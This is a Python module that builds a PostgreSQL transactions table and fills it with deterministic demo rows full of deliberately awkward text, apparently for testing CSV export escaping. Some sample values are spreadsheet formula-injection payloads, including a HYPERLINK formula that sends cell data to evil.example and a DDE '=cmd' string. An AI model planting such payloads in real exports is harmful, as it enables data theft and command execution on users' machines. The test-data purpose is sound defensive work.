"""Create the `transactions` table and load N deterministic, realistic and hostile rows.

    python -m devstack.demo_data --database-url URL --rows 500000 [--drop]

Rows are generated inside PostgreSQL by one `INSERT ... SELECT FROM generate_series` (1M rows
in a few seconds), in `created_at` order so that the physical order matches the
`(created_at, id)` index. Row `i` is a pure function of `i` and N: the same N gives the same
table. Timestamps spread evenly over 2024-01-01 .. 2024-12-31 (UTC) with microseconds.

The text is hostile on purpose: commas, double quotes, embedded LF and CRLF, non-ASCII
(é, 日本語, emoji), NULLs in the nullable columns, empty strings, leading/trailing spaces and
values starting with `=`, `+`, `-`, `@`, TAB and CR (formula triggers). Every variant occurs
at least once in any 100 consecutive rows.

Every row belongs to one of four merchants (`merchant_id`, the catalog's row scope) in
shares of 8/15, 4/15, 2/15 and 1/15 of the rows (`MERCHANT_CYCLE`): powers of two, so that no
two sets of merchants hold the same number of rows and an export of the wrong merchants cannot
pass for the right one by its size.
"""

from __future__ import annotations

import argparse
import os
import sys
import time
from collections.abc import Sequence

import psycopg
from psycopg import sql

from devstack import demo_invoices
from devstack.demo_indexes import create_indexes

TABLE = "transactions"
YEAR_START = "2024-01-01 00:00:00+00"
YEAR_MICROSECONDS = 366 * 86_400 * 1_000_000  # 2024 is a leap year
STATUSES = ("PENDING", "SETTLED", "FAILED", "REFUNDED")
# Row i belongs to MERCHANT_CYCLE[i % 15] (the ruler sequence): merchant 1 holds 8 of every
# 15 rows, 2 holds 4, 3 holds 2 and 4 holds 1.
MERCHANT_CYCLE = (1, 2, 1, 3, 1, 2, 1, 4, 1, 2, 1, 3, 1, 2, 1)
MERCHANTS = tuple(sorted(set(MERCHANT_CYCLE)))

SCHEMA = """
CREATE TABLE IF NOT EXISTS {table} (
    id             bigint        NOT NULL,
    created_at     timestamptz   NOT NULL,
    amount         numeric(12,2) NOT NULL,
    currency       char(3)       NOT NULL,
    status         text          NOT NULL,
    customer_email text,
    description    text,
    merchant_id    integer       NOT NULL DEFAULT 1  -- the row scope; tests' own rows: 1
)
"""

# Added after the bulk insert: building an index once is faster than maintaining it per row.
INDEXES = (
    "ALTER TABLE {table} ADD CONSTRAINT {pkey} PRIMARY KEY (id)",
    "CREATE INDEX IF NOT EXISTS {index} ON {table} (created_at, id)",
    # A scoped export reads one merchant's rows in (created_at, id) order.
    "CREATE INDEX IF NOT EXISTS {scope_index} ON {table} (merchant_id, created_at, id)",
)

# Descriptions cycle with i % 25; {n} is the row id. The first 16 are hostile.
DESCRIPTIONS = (
    "Card payment, ref {n}, thank you",
    'Customer said "refund me" for order {n}',
    "Line one\nline two of order {n}",
    "Windows line\r\nending {n}",
    "Café crème, Zürich — order {n}",
    "日本語の説明 {n}",
    "Emoji 🎉💶 order {n}",
    "=SUM(A1:A9)+{n}",
    '=HYPERLINK("http://evil.example/?x="&A1,"click {n}")',
    "+1 555 0100 ext {n}",
    "-{n} adjustment",
    "@SUM(1+1) {n}",
    "\tleading tab {n}",
    "\rleading carriage return {n}",
    "  padded with spaces {n}  ",
    "'already quoted {n}",
    "Subscription renewal {n}",
    "Online purchase {n}",
    "Transfer to savings {n}",
    "Grocery store {n}",
    "Fuel station {n}",
    "Restaurant bill {n}",
    "Pharmacy {n}",
    "Hotel booking {n}",
    "Airline ticket {n}",
)

EMAILS = (
    "user{n}@example.com",
    "first.last+{n}@example.org",
    "josé.{n}@exämple.com",
    "=cmd|' /C calc'!A0",
    "@handle{n}",
    "-minus{n}@example.net",
    "customer_{n}@example.co.uk",
)


def _pick(values: Sequence[str], modulus_expr: str) -> sql.Composable:
    """`(ARRAY[...])[<expr> + 1]` with `{n}` in each value replaced by the row id."""
    items = []
    for value in values:
        before, _, after = value.partition("{n}")
        items.append(
            sql.SQL("({} || i::text || {})").format(sql.Literal(before), sql.Literal(after))
        )
    return sql.SQL("(ARRAY[{}])[({})::integer + 1]").format(
        sql.SQL(", ").join(items), sql.SQL(modulus_expr)
    )


def insert_statement(total: int, first_id: int = 1, count: int | None = None) -> sql.Composed:
    """`INSERT ... SELECT FROM generate_series` for ids first_id .. first_id+count-1 of `total`."""
    count = total if count is None else count
    last_id = first_id + count - 1
    return sql.SQL(
        """
        INSERT INTO {table}
            (id, created_at, amount, currency, status, customer_email, description, merchant_id)
        SELECT
            i,
            {start}::timestamptz
                + floor((i - 1)::numeric * {year_us} / {total})::bigint
                  * interval '1 microsecond',
            CASE
                WHEN i % 997 = 0 THEN 1234567890.12
                WHEN i % 10 = 9 THEN -((i * 7919) % 100000) / 100.0
                ELSE ((i * 7919) % 1000000) / 100.0
            END,
            (ARRAY['EUR', 'USD', 'GBP', 'JPY', 'CHF'])[(i % 5)::integer + 1],
            CASE i % 10
                WHEN 6 THEN 'PENDING' WHEN 7 THEN 'PENDING'
                WHEN 8 THEN 'FAILED' WHEN 9 THEN 'REFUNDED'
                ELSE 'SETTLED'
            END,
            CASE WHEN i % 17 = 0 THEN NULL WHEN i % 19 = 0 THEN '' ELSE {email} END,
            CASE WHEN i % 13 = 0 THEN NULL WHEN i % 29 = 0 THEN '' ELSE {description} END,
            (ARRAY[{merchants}]::integer[])[(i % {cycle})::integer + 1]
        FROM generate_series({first_id}::bigint, {last_id}::bigint) AS i
        ORDER BY i
        """
    ).format(
        table=sql.Identifier(TABLE),
        start=sql.Literal(YEAR_START),
        year_us=sql.Literal(YEAR_MICROSECONDS),
        total=sql.Literal(total),
        email=_pick(EMAILS, "i % 7"),
        description=_pick(DESCRIPTIONS, "i % 25"),
        merchants=sql.SQL(", ").join(sql.Literal(m) for m in MERCHANT_CYCLE),
        cycle=sql.Literal(len(MERCHANT_CYCLE)),
        first_id=sql.Literal(first_id),
        last_id=sql.Literal(last_id),
    )


class TableNotEmpty(RuntimeError):
    """`load()` without `drop` on a table that already has rows."""


def create_schema(conn: psycopg.Connection) -> None:
    """Create the table (if missing) and its primary key and `(created_at, id)` index."""
    conn.execute(sql.SQL(SCHEMA).format(table=sql.Identifier(TABLE)))
    _create_indexes(conn)


def _create_indexes(conn: psycopg.Connection) -> None:
    create_indexes(conn, TABLE, INDEXES, "created_at")


def load(database_url: str, rows: int, *, drop: bool = False) -> int:
    """Create the schema and load `rows` rows; returns the number of rows in the table.

    Refuses to add to a table that already has rows unless `drop` (the data would no longer
    be the deterministic set for `rows`).
    """
    with psycopg.connect(database_url, autocommit=True) as conn:
        if drop:
            conn.execute(sql.SQL("DROP TABLE IF EXISTS {}").format(sql.Identifier(TABLE)))
        conn.execute(sql.SQL(SCHEMA).format(table=sql.Identifier(TABLE)))
        existing = _row_count(conn)
        if existing:
            raise TableNotEmpty(
                f"table {TABLE} already has {existing} rows; pass --drop to replace them"
            )
        with conn.transaction():
            conn.execute("SET LOCAL synchronous_commit = off")
            if rows:
                conn.execute(insert_statement(rows))
        _create_indexes(conn)
        conn.execute(sql.SQL("VACUUM (ANALYZE) {}").format(sql.Identifier(TABLE)))
        # The catalog's second resource, one invoice per ten transactions.
        demo_invoices.load(conn, rows, drop=drop)
        return _row_count(conn)


def _row_count(conn: psycopg.Connection) -> int:
    row = conn.execute(sql.SQL("SELECT count(*) FROM {}").format(sql.Identifier(TABLE)))
    result = row.fetchone()
    return int(result[0]) if result else 0


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m devstack.demo_data",
        description=(
            "Create the `transactions` table (primary key on id, index on (created_at, id)) "
            "and load N deterministic demo rows spread over 2024 (UTC), including hostile "
            "text: commas, quotes, newlines, non-ASCII, NULLs, empty strings and values "
            "starting with = + - @ TAB CR."
        ),
    )
    parser.add_argument(
        "--database-url",
        default=os.environ.get("DATABASE_URL"),
        help="libpq connection URL or conninfo (default: $DATABASE_URL)",
    )
    parser.add_argument(
        "--rows", type=int, default=500_000, help="number of rows to load (default: 500000)"
    )
    parser.add_argument(
        "--drop",
        action="store_true",
        help="drop and recreate the table first (without it, a non-empty table is an error)",
    )
    args = parser.parse_args(argv)
    if not args.database_url:
        parser.error("--database-url (or DATABASE_URL) is required")
    if args.rows < 0:
        parser.error("--rows must be >= 0")
    started = time.monotonic()
    try:
        total = load(args.database_url, args.rows, drop=args.drop)
    except (psycopg.Error, TableNotEmpty) as exc:
        message = " ".join(str(exc).split())
        print(f"error: {message}", file=sys.stderr)
        return 1
    elapsed = time.monotonic() - started
    print(f"loaded {total} rows into {TABLE} in {elapsed:.1f}s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
